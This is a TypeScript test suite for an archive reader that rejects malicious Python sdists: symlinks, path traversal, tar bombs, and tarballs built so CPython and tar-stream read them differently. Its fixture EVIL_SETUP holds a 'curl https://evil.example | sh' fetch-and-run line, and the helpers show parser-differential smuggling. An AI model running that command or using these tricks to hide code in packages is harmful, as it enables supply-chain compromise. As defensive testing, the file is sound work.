import assert from "node:assert/strict";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import zlib from "node:zlib";
import {
  MALFORMED_SDIST_KINDS,
  buildMalformedSdist,
  buildSdist,
  buildTarBomb,
  buildWheel,
  writeArtifact,
  type MalformedSdistKind,
} from "../../test/helpers/wheel-builder.js";
import { ArchiveError, type ArchiveErrorCode, type ArchiveLimits } from "./archive-limits.js";
import { archiveFormatOf, openArchive } from "./open-archive.js";
import { openTarArchive, type OpenTarOptions } from "./tar-reader.js";

const MiB = 1024 * 1024;
let dir: string;
before(async () => {
  dir = await mkdtemp(join(tmpdir(), "portcullis-tar-"));
});
after(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function write(name: string, bytes: Buffer): Promise<string> {
  return writeArtifact(dir, { filename: name, bytes });
}

async function outcome(
  path: string,
  limits?: Partial<ArchiveLimits>,
): Promise<{ phase: "open" | "read" | "ok"; code?: ArchiveErrorCode }> {
  let archive;
  try {
    archive = await openTarArchive(path, limits === undefined ? {} : { limits });
  } catch (err) {
    assert.ok(err instanceof ArchiveError, `expected an ArchiveError, got ${String(err)}`);
    return { phase: "open", code: err.code };
  }
  try {
    await archive.forEachFile(() => {});
    return { phase: "ok" };
  } catch (err) {
    assert.ok(err instanceof ArchiveError, `expected an ArchiveError, got ${String(err)}`);
    return { phase: "read", code: err.code };
  } finally {
    await archive.close();
  }
}

const SDIST_FILES = {
  "demo/__init__.py": "VALUE = 1\n",
  "demo/big.txt": "some text\n".repeat(20_000),
  "README.md": "# demo\n",
};

describe("openTarArchive", () => {
  for (const memoryBudget of [undefined, 0]) {
    const mode = memoryBudget === undefined ? "from memory" : "by streaming again";
    test(`lists and reads a well-formed sdist ${mode}`, async () => {
      const sdist = await buildSdist({ name: "demo", version: "1.0", files: SDIST_FILES });
      const path = await write(sdist.filename, sdist.bytes);
      const options: OpenTarOptions = memoryBudget === undefined ? {} : { memoryBudget };
      const archive = await openTarArchive(path, options);
      try {
        assert.equal(archive.format, "tar");
        assert.deepEqual(
          archive.entries().map((entry) => [entry.name, entry.isDirectory]),
          [
            ["demo-1.0", true],
            ["demo-1.0/PKG-INFO", false],
            ["demo-1.0/pyproject.toml", false],
            ["demo-1.0/demo/__init__.py", false],
            ["demo-1.0/demo/big.txt", false],
            ["demo-1.0/README.md", false],
          ],
        );
        assert.match(
          (await archive.read("demo-1.0/PKG-INFO")).toString(),
          /^Metadata-Version: 2\.1\nName: demo\n/,
        );
        assert.equal((await archive.read("demo-1.0/demo/big.txt")).toString(), SDIST_FILES["demo/big.txt"]);
        assert.equal((await archive.read("./demo-1.0/README.md")).toString(), "# demo\n");
        await assert.rejects(
          archive.read("demo-1.0"),
          (err) => err instanceof ArchiveError && err.code === "NOT_FOUND",
        );
        await assert.rejects(
          archive.read("demo-1.0/nope"),
          (err) => err instanceof ArchiveError && err.code === "NOT_FOUND",
        );
        const seen: string[] = [];
        await archive.forEachFile((entry, data) => {
          assert.equal(data.length, entry.size);
          seen.push(entry.name);
        });
        assert.deepEqual(
          seen,
          archive
            .entries()
            .filter((e) => !e.isDirectory)
            .map((e) => e.name),
        );
      } finally {
        await archive.close();
      }
    });
  }

  test("skips the root entry and canonicalises ./ prefixes", async () => {
    const sdist = await buildSdist({
      name: "demo",
      version: "1.0",
      extraEntries: [
        { name: "./", type: "directory" },
        { name: "./demo-1.0/extra.txt", content: "extra" },
      ],
    });
    const archive = await openTarArchive(await write("dot.tar.gz", sdist.bytes), { memoryBudget: 0 });
    try {
      assert.ok(archive.entry("demo-1.0/extra.txt"));
      assert.equal(archive.entries().length, 4);
      assert.equal((await archive.read("demo-1.0/extra.txt")).toString(), "extra");
    } finally {
      await archive.close();
    }
  });

  const expected: Record<MalformedSdistKind, { phase: "open" | "read"; code: ArchiveErrorCode }> = {
    symlink: { phase: "open", code: "SYMLINK" },
    hardlink: { phase: "open", code: "SYMLINK" },
    "path-traversal": { phase: "open", code: "PATH_TRAVERSAL" },
    "absolute-path": { phase: "open", code: "ABSOLUTE_PATH" },
    "character-device": { phase: "open", code: "UNSUPPORTED" },
    fifo: { phase: "open", code: "UNSUPPORTED" },
    "duplicate-name": { phase: "open", code: "DUPLICATE_NAME" },
    "tar-bomb": { phase: "open", code: "ENTRY_TOO_LARGE" },
    "not-gzip": { phase: "open", code: "CORRUPT" },
    truncated: { phase: "open", code: "CORRUPT" },
  };

  for (const kind of MALFORMED_SDIST_KINDS) {
    test(`refuses an sdist with ${kind} (${expected[kind].code})`, async () => {
      const path = await write(`${kind}.tar.gz`, await buildMalformedSdist(kind));
      assert.deepEqual(await outcome(path), expected[kind]);
    });
  }

  test("judges the compression ratio of the gzip stream as it inflates", async () => {
    const path = await write("bomb-ratio.tar.gz", await buildMalformedSdist("tar-bomb"));
    assert.deepEqual(await outcome(path, { maxBufferedEntry: 512 * MiB }), {
      phase: "open",
      code: "COMPRESSION_RATIO",
    });
  });

  test("inflates an honest highly compressed tarball that the limits allow", async () => {
    const path = await write("zeros.tar.gz", buildTarBomb(2));
    const archive = await openTarArchive(path, { limits: { maxCompressionRatio: 5_000 } });
    try {
      const data = await archive.read("evil-1.0/zeros.bin");
      assert.ok(data.equals(Buffer.alloc(2 * MiB)));
    } finally {
      await archive.close();
    }
  });

  test("enforces the entry count and total size limits", async () => {
    const sdist = await buildSdist({ name: "demo", version: "1.0", files: SDIST_FILES });
    const path = await write("limits.tar.gz", sdist.bytes);
    assert.deepEqual(await outcome(path, { maxEntries: 3 }), { phase: "open", code: "TOO_MANY_ENTRIES" });
    assert.deepEqual(await outcome(path, { maxTotalUncompressed: 100_000 }), {
      phase: "open",
      code: "TOO_LARGE",
    });
    assert.deepEqual(await outcome(path, { maxEntryUncompressed: 100_000 }), {
      phase: "open",
      code: "ENTRY_TOO_LARGE",
    });
    // A member is always held whole: it may not be larger than maxBufferedEntry either.
    assert.deepEqual(await outcome(path, { maxBufferedEntry: 100_000 }), {
      phase: "open",
      code: "ENTRY_TOO_LARGE",
    });
  });

  test("answers randomly corrupted tarballs with typed errors only", async () => {
    const sdist = await buildSdist({
      name: "demo",
      version: "1.0",
      files: { "demo/__init__.py": "VALUE = 1\n" },
    });
    const tar = zlib.gunzipSync(sdist.bytes);
    let seed = 20240601;
    const random = (below: number) => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed % below;
    };
    for (let i = 0; i < 60; i++) {
      const bytes = Buffer.from(tar);
      // Mutations aimed at the first blocks, where the headers are, rather than at padding.
      for (let j = 0; j <= random(4); j++) bytes[random(4096)] = random(256);
      const result = await outcome(await write("fuzzed.tar.gz", zlib.gzipSync(bytes)));
      assert.ok(result.phase === "ok" || result.code !== undefined);
    }
  });

  test("passes file-system errors through and honours an abort signal", async () => {
    await assert.rejects(openTarArchive(join(dir, "missing.tar.gz")), (err) => {
      assert.ok(!(err instanceof ArchiveError));
      return (err as NodeJS.ErrnoException).code === "ENOENT";
    });
    const sdist = await buildSdist({ name: "demo", version: "1.0" });
    const path = await write("abort.tar.gz", sdist.bytes);
    await assert.rejects(openTarArchive(path, { signal: AbortSignal.abort() }), { name: "AbortError" });
    const archive = await openTarArchive(path, { memoryBudget: 0 });
    try {
      await assert.rejects(
        archive.forEachFile(() => {}, { signal: AbortSignal.abort() }),
        { name: "AbortError" },
      );
    } finally {
      await archive.close();
    }
  });
});

describe("openArchive", () => {
  test("picks the format by filename", () => {
    assert.equal(archiveFormatOf("demo-1.0-py3-none-any.whl"), "zip");
    assert.equal(archiveFormatOf("demo-1.0.zip"), "zip");
    assert.equal(archiveFormatOf("demo-1.0.tar.gz"), "tar");
    assert.equal(archiveFormatOf("demo-1.0.TGZ"), "tar");
    assert.equal(archiveFormatOf("demo-1.0.tar.bz2"), undefined);
    assert.equal(archiveFormatOf("demo-1.0.egg"), undefined);
  });

  test("opens wheels, zip sdists and tarballs, also under another file name", async () => {
    const wheel = await buildWheel({ name: "demo", version: "1.0" });
    const zipSdist = await buildSdist({ name: "demo", version: "1.0", format: "zip" });
    const tarSdist = await buildSdist({ name: "demo", version: "1.0" });
    const cases = [
      { path: await write(wheel.filename, wheel.bytes), format: "zip" },
      { path: await write(zipSdist.filename, zipSdist.bytes), format: "zip" },
      { path: await write(tarSdist.filename, tarSdist.bytes), format: "tar" },
    ];
    for (const { path, format } of cases) {
      const archive = await openArchive(path);
      assert.equal(archive.format, format);
      await archive.close();
    }
    const blob = await write("sha256-abcdef", tarSdist.bytes);
    const archive = await openArchive(blob, { filename: tarSdist.filename });
    assert.equal(archive.format, "tar");
    await archive.close();
  });

  test("refuses unknown file types, and archives whose content is not what the name says", async () => {
    const tarSdist = await buildSdist({ name: "demo", version: "1.0" });
    await assert.rejects(openArchive(await write("demo-1.0.egg", tarSdist.bytes)), (err) => {
      return err instanceof ArchiveError && err.code === "UNSUPPORTED";
    });
    await assert.rejects(openArchive(await write("demo-1.0-py3-none-any.whl", tarSdist.bytes)), (err) => {
      return err instanceof ArchiveError && err.code === "CORRUPT";
    });
  });
});

// ---------------------------------------------------------------------------------------------
// Hand-assembled tarballs that CPython tarfile (what pip unpacks sdists with) and tar-stream would
// read differently.

interface RawTarHeader {
  name: string;
  /** The typeflag character; "0" by default. */
  type?: string;
  size?: number;
  prefix?: string;
  /** GNU ("ustar  \0") instead of POSIX ("ustar\0" "00") magic. */
  gnu?: boolean;
}

function rawHeader(header: RawTarHeader): Buffer {
  const block = Buffer.alloc(512);
  const octal = (value: number, length: number) => value.toString(8).padStart(length - 1, "0") + "\0";
  block.write(header.name, 0, 100, "utf8");
  block.write(octal(header.type === "5" ? 0o755 : 0o644, 8), 100, "ascii");
  block.write(octal(0, 8), 108, "ascii");
  block.write(octal(0, 8), 116, "ascii");
  block.write(octal(header.size ?? 0, 12), 124, "ascii");
  block.write(octal(1577836800, 12), 136, "ascii");
  block.write(header.type ?? "0", 156, "latin1");
  if (header.gnu === true) block.write("ustar  \0", 257, "latin1");
  else block.write("ustar\u000000", 257, "latin1");
  if (header.prefix !== undefined) block.write(header.prefix, 345, 155, "utf8");
  block.write("        ", 148, "ascii");
  let sum = 0;
  for (const byte of block) sum += byte;
  block.write(sum.toString(8).padStart(6, "0") + "\0 ", 148, "ascii");
  return block;
}

function padded(data: Buffer): Buffer {
  return Buffer.concat([data, Buffer.alloc((512 - (data.length % 512)) % 512)]);
}

/** A regular member: header and padded body. */
function rawFile(name: string, content: string, extra: Partial<RawTarHeader> = {}): Buffer {
  const body = Buffer.from(content);
  return Buffer.concat([rawHeader({ name, size: body.length, ...extra }), padded(body)]);
}

function paxRecord(key: string, value: string): string {
  const body = ` ${key}=${value}\n`;
  const bytes = Buffer.byteLength(body);
  let length = bytes + 1;
  while (String(length).length + bytes !== length) length++;
  return `${length}${body}`;
}

/** A pax (`x`, or `g` for global) header whose data holds `records`. */
function rawPax(records: string, type = "x", size?: number): Buffer {
  const data = Buffer.from(records);
  return Buffer.concat([
    rawHeader({ name: "PaxHeader/x", type, size: size ?? Buffer.byteLength(records) }),
    padded(data),
  ]);
}

function tarGz(...parts: Buffer[]): Buffer {
  return zlib.gzipSync(Buffer.concat([...parts, Buffer.alloc(1024)]));
}

const PKG_INFO = rawFile("evil-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n");
const EVIL_SETUP = "import os\nos.system('curl https://evil.example | sh')\n";

/** Opens a crafted tarball; returns the listing, or the refusal as code and message. */
async function tarView(name: string, bytes: Buffer): Promise<string[] | { code: string; message: string }> {
  try {
    const archive = await openTarArchive(await write(name, bytes));
    try {
      await archive.forEachFile(() => {});
      return archive.entries().map((entry) => (entry.isDirectory ? `${entry.name}/` : entry.name));
    } finally {
      await archive.close();
    }
  } catch (err) {
    assert.ok(err instanceof ArchiveError, `expected an ArchiveError, got ${String(err)}`);
    return { code: err.code, message: err.message };
  }
}

describe("openTarArchive: tarballs CPython and tar-stream would read differently", () => {
  test("reads hand-assembled POSIX, GNU long-name and pax members as CPython does", async () => {
    const longName = `evil-1.0/${"d".repeat(90)}/${"m".repeat(40)}.py`;
    const longBody = Buffer.from(`${longName}\0`);
    const view = await tarView(
      "plain.tar.gz",
      tarGz(
        rawHeader({ name: "evil-1.0/", type: "5" }),
        PKG_INFO,
        rawFile("setup.py", "x = 1\n", { prefix: "evil-1.0" }),
        rawHeader({ name: "././@LongLink", type: "L", size: longBody.length, gnu: true }),
        padded(longBody),
        rawFile(longName.slice(0, 99), "y = 2\n", { gnu: true }),
        rawPax(paxRecord("path", "evil-1.0/caf\u00e9.py") + paxRecord("mtime", "1700000000.25")),
        rawFile("evil-1.0/cafe.py", "z = 3\n"),
      ),
    );
    assert.deepEqual(view, [
      "evil-1.0/",
      "evil-1.0/PKG-INFO",
      "evil-1.0/setup.py",
      longName,
      "evil-1.0/caf\u00e9.py",
    ]);
  });

  test("refuses a global pax header, whose path CPython gives every later member", async () => {
    const view = await tarView(
      "global-pax.tar.gz",
      tarGz(
        PKG_INFO,
        rawPax(paxRecord("path", "evil-1.0/setup.py"), "g"),
        rawFile("evil-1.0/NOTES.txt", EVIL_SETUP),
      ),
    );
    assert.equal((view as { code: string }).code, "UNSUPPORTED", JSON.stringify(view));
  });

  test("reads a `git archive` global pax header that holds only a comment", async () => {
    // git archive starts with a global header named pax_global_header: "52 comment=<commit id>\n".
    const gitHeader = rawPax(paxRecord("comment", "0123456789abcdef0123456789abcdef01234567"), "g");
    const view = await tarView(
      "git-archive.tar.gz",
      tarGz(
        gitHeader,
        rawHeader({ name: "demo-1.0/", type: "5" }),
        rawFile("demo-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
        rawPax(paxRecord("comment", "a second one"), "g"),
        rawPax(paxRecord("path", "demo-1.0/caf\u00e9.py")),
        rawFile("demo-1.0/cafe.py", "z = 3\n"),
        rawFile("demo-1.0/setup.py", "x = 1\n"),
      ),
    );
    assert.deepEqual(view, ["demo-1.0/", "demo-1.0/PKG-INFO", "demo-1.0/caf\u00e9.py", "demo-1.0/setup.py"]);
  });

  test("refuses a global pax header with any key besides comment, or chained with another", async () => {
    const cases: [string, Buffer[], string][] = [
      [
        "comment and path",
        [rawPax(paxRecord("comment", "x") + paxRecord("path", "evil-1.0/setup.py"), "g")],
        "UNSUPPORTED",
      ],
      ["size", [rawPax(paxRecord("size", "0"), "g")], "UNSUPPORTED"],
      ["mtime", [rawPax(paxRecord("mtime", "1700000000"), "g")], "UNSUPPORTED"],
      ["comment twice", [rawPax(paxRecord("comment", "a") + paxRecord("comment", "b"), "g")], "CORRUPT"],
      ["malformed", [rawPax("99 comment=x\n", "g")], "CORRUPT"],
      [
        "after a pax header",
        [rawPax(paxRecord("mtime", "1")), rawPax(paxRecord("comment", "x"), "g")],
        "CORRUPT",
      ],
    ];
    for (const [label, parts, code] of cases) {
      const view = await tarView(
        "global-pax.tar.gz",
        tarGz(PKG_INFO, ...parts, rawFile("evil-1.0/NOTES.txt", EVIL_SETUP)),
      );
      assert.equal((view as { code: string }).code, code, `${label}: ${JSON.stringify(view)}`);
    }
  });

  test("refuses pax keys outside the allow-list", async () => {
    for (const [key, value] of [
      ["GNU.sparse.name", "evil-1.0/setup.py"],
      ["hdrcharset", "BINARY"],
      ["comment", "hello"],
    ] as const) {
      const view = await tarView(
        "pax-key.tar.gz",
        tarGz(PKG_INFO, rawPax(paxRecord(key, value)), rawFile("evil-1.0/NOTES.txt", EVIL_SETUP)),
      );
      assert.equal((view as { code: string }).code, "UNSUPPORTED", `${key}: ${JSON.stringify(view)}`);
    }
  });

  test("refuses pax records hidden in the padding after the declared pax size", async () => {
    // CPython parses the whole padded block up to a NUL; tar-stream only the declared bytes.
    const shown = paxRecord("path", "evil-1.0/NOTES.txt");
    const hidden = paxRecord("path", "evil-1.0/setup.py");
    const view = await tarView(
      "pax-padding.tar.gz",
      tarGz(
        PKG_INFO,
        rawPax(shown + hidden, "x", Buffer.byteLength(shown)),
        rawFile("evil-1.0/x", EVIL_SETUP),
      ),
    );
    assert.equal((view as { code: string }).code, "CORRUPT", JSON.stringify(view));
  });

  test("refuses pax values the readers parse differently, and keys given twice", async () => {
    const cases: [string, string][] = [
      ["bad-size", paxRecord("size", "12abc")],
      ["empty-path", paxRecord("path", "")],
      ["twice", paxRecord("path", "evil-1.0/a.txt") + paxRecord("path", "evil-1.0/setup.py")],
    ];
    for (const [label, records] of cases) {
      const view = await tarView(
        `pax-${label}.tar.gz`,
        tarGz(PKG_INFO, rawPax(records), rawFile("evil-1.0/NOTES.txt", EVIL_SETUP)),
      );
      assert.equal((view as { code: string }).code, "CORRUPT", `${label}: ${JSON.stringify(view)}`);
    }
  });

  test("refuses a ustar prefix that only CPython applies (GNU magic)", async () => {
    const view = await tarView(
      "gnu-prefix.tar.gz",
      tarGz(PKG_INFO, rawFile("setup.py", EVIL_SETUP, { prefix: "evil-1.0", gnu: true })),
    );
    assert.equal((view as { code: string }).code, "CORRUPT", JSON.stringify(view));
  });

  test("refuses a regular file named like a directory, which CPython writes as a file", async () => {
    const longBody = Buffer.from("evil-1.0/setup.py/\0");
    const cases: [string, Buffer[]][] = [
      ["type 0", [rawFile("evil-1.0/setup.py/", EVIL_SETUP)]],
      [
        "long name",
        [
          rawHeader({ name: "././@LongLink", type: "L", size: longBody.length, gnu: true }),
          padded(longBody),
          rawFile("evil-1.0/x", EVIL_SETUP, { gnu: true }),
        ],
      ],
      ["pax path", [rawPax(paxRecord("path", "evil-1.0/setup.py/")), rawFile("evil-1.0/x", EVIL_SETUP)]],
    ];
    for (const [label, parts] of cases) {
      const view = await tarView("slash.tar.gz", tarGz(PKG_INFO, ...parts));
      assert.equal((view as { code: string }).code, "CORRUPT", `${label}: ${JSON.stringify(view)}`);
    }
  });

  test("refuses members after the end-of-archive blocks, where CPython stops", async () => {
    const bytes = zlib.gzipSync(
      Buffer.concat([
        PKG_INFO,
        Buffer.alloc(1024),
        rawFile("evil-1.0/setup.py", EVIL_SETUP),
        Buffer.alloc(1024),
      ]),
    );
    const view = await tarView("after-end.tar.gz", bytes);
    assert.equal((view as { code: string }).code, "CORRUPT", JSON.stringify(view));
  });

  test("refuses chained extended headers and member types the readers treat differently", async () => {
    const longBody = Buffer.from("evil-1.0/NOTES.txt\0");
    const chained = [
      rawHeader({ name: "././@LongLink", type: "L", size: longBody.length, gnu: true }),
      padded(longBody),
      rawPax(paxRecord("path", "evil-1.0/setup.py")),
      rawFile("evil-1.0/x", EVIL_SETUP),
    ];
    const chainedView = await tarView("chained.tar.gz", tarGz(PKG_INFO, ...chained));
    assert.equal((chainedView as { code: string }).code, "CORRUPT", JSON.stringify(chainedView));
    // tar-stream reads N as an old GNU long name; CPython writes it out as a regular file.
    const nView = await tarView(
      "type-n.tar.gz",
      tarGz(PKG_INFO, rawFile("evil-1.0/setup.py", EVIL_SETUP, { type: "N" })),
    );
    assert.equal((nView as { code: string }).code, "UNSUPPORTED", JSON.stringify(nView));
    // A GNU long link name only matters for links, which are refused; on a file it is refused too.
    const linkBody = Buffer.from("evil-1.0/setup.py\0");
    const kView = await tarView(
      "type-k.tar.gz",
      tarGz(
        PKG_INFO,
        rawHeader({ name: "././@LongLink", type: "K", size: linkBody.length, gnu: true }),
        padded(linkBody),
        rawFile("evil-1.0/NOTES.txt", EVIL_SETUP, { gnu: true }),
      ),
    );
    assert.equal((kView as { code: string }).code, "UNSUPPORTED", JSON.stringify(kView));
  });
});
